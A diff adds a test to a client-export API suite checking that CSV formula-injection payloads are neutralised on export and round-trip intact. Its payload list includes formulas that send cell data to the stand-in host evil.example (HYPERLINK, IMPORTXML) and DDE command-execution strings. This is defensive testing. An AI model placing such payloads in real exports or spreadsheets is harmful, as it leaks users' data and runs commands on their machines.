@@ -207,6 +207,49 @@ describe('GET /v1/clients/export', () => {
     expect((await records(new Uint8Array(Buffer.from(foreign.text)))).length).toBe(1);
   });
 
+  it('neutralises formula injection payloads in every text column, and they import back as they were', async () => {
+    // A company of its own: the other tests count this company's clients.
+    const other = await createCompany(api, 'Formula Co', 'EUR');
+    const PAYLOADS = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")',
+      '@SUM(1)',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '=1+1',
+      '\t=1+1',
+      '\r=1+1',
+      "'=already quoted",
+      '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
+      '@',
+    ];
+    const ids: string[] = [];
+    for (const [i, payload] of PAYLOADS.entries()) {
+      const res = await api.call('POST', '/v1/clients', {
+        token: other.staffToken,
+        body: { firstName: payload, lastName: `Row ${i}`, company: payload, address1: payload, city: payload, taxId: payload },
+      });
+      expectStatus(res, 201);
+      ids.push(res.body.id);
+    }
+    const bytes = new Uint8Array(await (await rawExport('', other.staffToken)).arrayBuffer());
+    const [, ...rows] = await records(bytes);
+    expect(rows.length).toBe(PAYLOADS.length);
+    for (const row of rows) for (const cell of row.cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+    const { byNumber } = await readBack(bytes);
+    for (const id of ids) {
+      const profile = (await api.call('GET', `/v1/clients/${id}`, { token: other.staffToken })).body;
+      const row = byNumber.get(profile.number);
+      for (const field of ['firstName', 'company', 'address1', 'city', 'taxId'] as const) {
+        expect(row?.input[field], `${profile.lastName} ${field}`).toBe(profile[field]);
+      }
+    }
+    // What the API keeps of each payload is what the file gives back, the dangerous ones included.
+    const kept = new Set([...byNumber.values()].map((r) => r.input.company));
+    for (const payload of ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")', '@SUM(1)', "+cmd|' /C calc'!A0", "'=already quoted"]) {
+      expect(kept.has(payload), payload).toBe(true);
+    }
+  });
+
   it('reads every page of a company with more clients than a page, in number order, each with its group', async () => {
     const other = await createCompany(api, 'Many Clients Co', 'USD');
     const call = (method: string, path: string, body?: unknown) => api.call(method, path, { token: other.staffToken, body });
